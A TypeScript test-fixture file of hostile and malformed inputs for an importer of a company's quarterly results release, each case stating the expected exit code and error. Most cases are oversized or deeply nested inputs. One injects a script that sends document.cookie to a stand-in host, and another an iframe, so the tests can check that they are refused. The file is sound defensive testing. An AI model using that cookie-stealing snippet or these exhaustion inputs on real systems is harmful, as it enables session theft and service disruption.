/**
 * Hostile releases: what an attacker or a careless user could hand `kc import` (and `npm run generate:data`, which runs
 * the same import). Each case builds its text from the filing and says what must happen: the exit code, and what the
 * message must say (every failure is "line N: ..."; messages quote a short excerpt at most). The cases run in a child
 * process (run.ts), each timed there; releases.test.ts asserts the outcomes and the time bounds.
 */
import { readFileSync } from "fs";
import { join } from "path";
import { renderExhibit } from "../core/edgar-exhibit";

const FILING = readFileSync(join(__dirname, "../../src/data/sources/kingsoft-cloud-2026q1-press-release.txt"), "utf8");
const LINES = FILING.split("\n");

export interface ReleaseCase {
  name: string;
  build: () => string;
  code: 0 | 1;
  /** What stderr must match (for a refusal), and, for an import, nothing on stderr. */
  err?: RegExp;
  /** Longest message allowed (a huge cell must be quoted by an excerpt). */
  maxErrLength?: number;
}

const MB = 1024 * 1024;
/** The balance sheet: its title (line 173) to its last row (line 222). */
const BS_FROM = 173;
const BS_TO = 222;

const withLine = (n: number, edit: (line: string) => string): string => LINES.map((l, i) => (i === n - 1 ? edit(l) : l)).join("\n");
const insertBefore = (n: number, lines: string[]): string => [...LINES.slice(0, n - 1), ...lines, ...LINES.slice(n - 1)].join("\n");
const bsCopy = (edit: (line: string) => string = (l) => l): string[] => ["", ...LINES.slice(BS_FROM - 1, BS_TO).map(edit)];
/** The filing with one more prose line at its end (no figure moves). */
const withProse = (line: string): string => `${FILING}\n${line}`;
/** Repeats `unit` to about `bytes` characters. */
const fill = (unit: string, bytes: number): string => unit.repeat(Math.floor(bytes / unit.length));

/** The filing as the EDGAR HTML exhibit, and where its last table (the cash flow statement) opens. */
const EXHIBIT = renderExhibit();
const EXHIBIT_LINES = EXHIBIT.split("\n");
const LAST_TABLE = EXHIBIT_LINES.lastIndexOf(EXHIBIT_LINES.filter((l) => l.startsWith("<table")).pop()!) + 1;
/** The exhibit with `html` put in place of its first figure cell's closing parenthesis ("(1,651,671" then ")"). */
const inFirstCell = (html: string): string => EXHIBIT.replace(">)</font></td>", `>)</font>${html}</td>`);
/** The exhibit with `html` before its closing </body>. */
const beforeEnd = (html: string): string => EXHIBIT.replace("</body>", `${html}</body>`);

/** A deterministic stream of bytes (xorshift), for a file of binary noise. */
function noise(length: number): string {
  let x = 2463534242;
  let out = "";
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out += String.fromCharCode((x >>> 0) % 256);
  }
  return out;
}

export const RELEASE_CASES: ReleaseCase[] = [
  // The issue's table, row by row
  {
    name: "the balance sheet printed twice, one figure changed in the copy",
    build: () => insertBefore(BS_TO + 1, bsCopy((l) => l.replace("6,018,043", "6,018,044"))),
    code: 1,
    err: /^kc import: line 224: the balance sheet is printed twice \(lines 173 and 224\)\nline 231: CashAndCashEquivalents printed on line 180 = line 231 does not tie for 2025Q4: printed 6018044, recomputed 6018043\n2 problems: nothing was imported/,
  },
  {
    name: "a line item changed without its total",
    build: () => withLine(231, (l) => l.replace("1,996,301", "1,996,302")),
    code: 1,
    err: /^kc import: line 233: TotalRevenues = .* does not tie for 2026Q1: printed 2703732, recomputed 2703733 from lines 231, 232\n1 problem: nothing was imported/,
  },
  {
    name: "one figure in another locale's grouping (710.901 for 710,901)",
    build: () => withLine(180, (l) => l.replace("\t710,901", "\t710.901")),
    code: 1,
    err: /^kc import: line 180: .*\nline 180: row 'Cash and cash equivalents', column 'Mar 31, 2026 US\$': '710\.901' is not in the release's number format \(it prints amounts in whole thousands/,
  },
  { name: "a prose line of 100,000 unclosed tags", build: () => withProse(fill("<a", 200_000)), code: 0 },
  { name: "a prose line of 160,000 characters of unclosed tags", build: () => withProse(fill("<a", 160_000)), code: 0 },
  { name: "a prose line of unclosed tags up to the size limit", build: () => withProse(fill("<a", 2 * MB - FILING.length - 10)), code: 0 },
  {
    name: "200,000 header lines before a table",
    build: () => insertBefore(176, Array.from({ length: 200_000 }, () => "\tx")),
    code: 1,
    err: /^kc import: line 188: table 'UNAUDITED CONDENSED CONSOLIDATED BALANCE SHEETS' has a header of more than 12 lines/,
  },
  {
    name: "a 50 MB file of table rows",
    build: () => FILING + fill("Total revenues\t1,969,977\t2,761,387\t2,703,732\t391,959\n", 50 * MB),
    code: 1,
    err: /^kc import: line 1: the release is larger than 2 MB \(2,097,152 bytes\)/,
  },
  {
    name: "a 10 MB non-numeric cell",
    build: () => withLine(231, (l) => l.replace("1,996,301", "x".repeat(10 * MB))),
    code: 1,
    err: /^kc import: line 1: the release is larger than 2 MB/,
    maxErrLength: 300,
  },
  {
    name: "a 1.5 MB non-numeric cell, within the size limit",
    build: () => withLine(231, (l) => l.replace("1,996,301", "x".repeat(1.5 * MB))),
    code: 1,
    err: /^kc import: line 231: row 'Public cloud services', column 'Three Months Ended Mar 31, 2026 RMB': 'x{200,}\.\.\.' is not a number$/,
    maxErrLength: 500,
  },
  {
    name: "importer fuzz seed 1451813297: the US$ loss per share (0.01) printed (0.0)",
    build: () => withLine(253, (l) => l.replace(/\(0\.01\)$/, "(0.0)")),
    code: 1,
    err: /^kc import: line 253: NetLossPerShare = .* does not tie for 2026Q1: printed 0, recomputed -0\.01\d+.*\nline 253: row 'Basic and diluted', column 'Three Months Ended Mar 31, 2026 US\$': '\(0\.0\)' is not in the release's number format \(it prints per-share amounts to 2 decimals/,
  },

  // More of our own
  {
    name: "the balance sheet printed twice, identical",
    build: () => insertBefore(BS_TO + 1, bsCopy()),
    code: 1,
    err: /^kc import: line 224: the balance sheet is printed twice \(lines 173 and 224\)\n1 problem: nothing was imported/,
  },
  {
    name: "a prose line of unclosed footnotes (<sup>) up to the size limit",
    build: () => withProse(fill("<sup>1", 2 * MB - FILING.length - 10)),
    code: 0,
  },
  {
    name: "a prose line of unclosed bold and escapes up to the size limit",
    build: () => withProse(fill("**\\", 2 * MB - FILING.length - 10)),
    code: 0,
  },
  {
    name: "a prose line repeating the start of a sentence the importer reads",
    build: () => withProse(fill("IDC costs increased by 9", 2 * MB - FILING.length - 10)),
    code: 0,
  },
  {
    name: "a header cell of 1.5 million letters",
    build: () => withLine(176, (l) => l.replace("Dec 31, 2025", "D".repeat(1.5 * MB))),
    code: 1,
    err: /^kc import: line 176: column 'D{100,}\.\.\.' has no date such as "Mar 31, 2026"$/,
    maxErrLength: 400,
  },
  {
    name: "a cell of 1.5 million digits",
    build: () => withLine(231, (l) => l.replace("1,996,301", "7".repeat(1.5 * MB))),
    code: 1,
    err: /^kc import: line 231: row 'Public cloud services', column 'Three Months Ended Mar 31, 2026 RMB': '7{200,}\.\.\.' has more than 15 significant digits/,
    maxErrLength: 500,
  },
  {
    name: "a table header of 100,000 columns",
    build: () => withLine(176, (l) => l + "\tDec 31, 2025".repeat(100_000)),
    code: 1,
    err: /^kc import: line 176: the table header has 100003 columns; a results release prints at most 24$/,
  },
  {
    name: "the balance sheet printed 101 times",
    build: () => insertBefore(BS_TO + 1, Array.from({ length: 100 }, () => bsCopy()).flat()),
    code: 1,
    err: /^kc import: line \d+: a table beyond the first 100: a results release prints about ten$/,
  },
  {
    name: "a megabyte of binary noise",
    build: () => noise(MB),
    code: 1,
    err: /^kc import: line 1: this is not a results release: no headline such as/,
  },
  { name: "an empty file", build: () => "", code: 1, err: /^kc import: line 1: this is not a results release: no headline such as/ },

  // The EDGAR HTML exhibit (issue 15): what a filed exhibit never holds is refused on its line, however large
  { name: "the HTML exhibit as rendered", build: () => EXHIBIT, code: 0 },
  {
    name: "an HTML table never closed",
    build: () => EXHIBIT.slice(0, EXHIBIT.lastIndexOf("</table>")),
    code: 1,
    err: new RegExp(`^kc import: line ${LAST_TABLE}: this table is never closed \\(no </table> before the end of the file\\)`),
  },
  {
    name: "a table inside a table's cell",
    build: () => inFirstCell("<table><tr><td>1</td></tr></table>"),
    code: 1,
    err: /^kc import: line \d+: a table inside a table \(the outer one opens on line \d+\): a results release's tables are never nested$/,
  },
  {
    name: "100,000 tables opened inside one another",
    build: () => beforeEnd("<table><tr><td>".repeat(100_000)),
    code: 1,
    err: /^kc import: line \d+: a table inside a table/,
  },
  {
    name: "a table row of 10,000 columns",
    build: () => beforeEnd(`<table>\n<tr>${"<td>1</td>".repeat(10_000)}</tr></table>`),
    code: 1,
    err: /^kc import: line \d+: a table row of 241 cells; a results release's rows have at most 240/,
  },
  {
    name: "a cell spanning a billion columns",
    build: () => beforeEnd(`<table>\n<tr><td colspan="1000000000">x</td></tr></table>`),
    code: 1,
    err: /^kc import: line \d+: a table row of 1000 cells; a results release's rows have at most 240/,
  },
  {
    name: "a script in the exhibit",
    build: () => beforeEnd(`<script>fetch("https://example.com/?" + document.cookie)</script>`),
    code: 1,
    err: /^kc import: line \d+: the file carries <script>, which a filed EDGAR exhibit never does \(EDGAR accepts no active content\): nothing was read$/,
  },
  {
    name: "an iframe in a table cell",
    build: () => inFirstCell(`<iframe src="https://example.com"></iframe>`),
    code: 1,
    err: /^kc import: line \d+: the file carries <iframe>/,
  },
  {
    name: "unclosed bold and font tags up to the size limit after the exhibit",
    build: () => beforeEnd(fill("<b><font>", 2 * MB - EXHIBIT.length - 10)),
    code: 1,
    err: /^kc import: line \d+: elements nested more than 200 deep/,
  },
  {
    name: "closed tags up to the size limit after the exhibit",
    build: () => beforeEnd(fill("<b><font>x</font></b><br>", 2 * MB - EXHIBIT.length - 10)),
    code: 0,
  },
  {
    name: "a million character references in one cell",
    build: () => EXHIBIT.replace("&nbsp;(1,651,671", `&nbsp;(1,651,671${fill("&#8212;&nbsp;", 2 * MB - EXHIBIT.length - 10)}`),
    code: 1,
    err: /^kc import: line \d+: row 'Cost of revenues', column 'Three Months Ended Mar 31, 2025 RMB': '\(1,651,671[— ]{10,}\.\.\.' is not a number$/,
    maxErrLength: 500,
  },
];
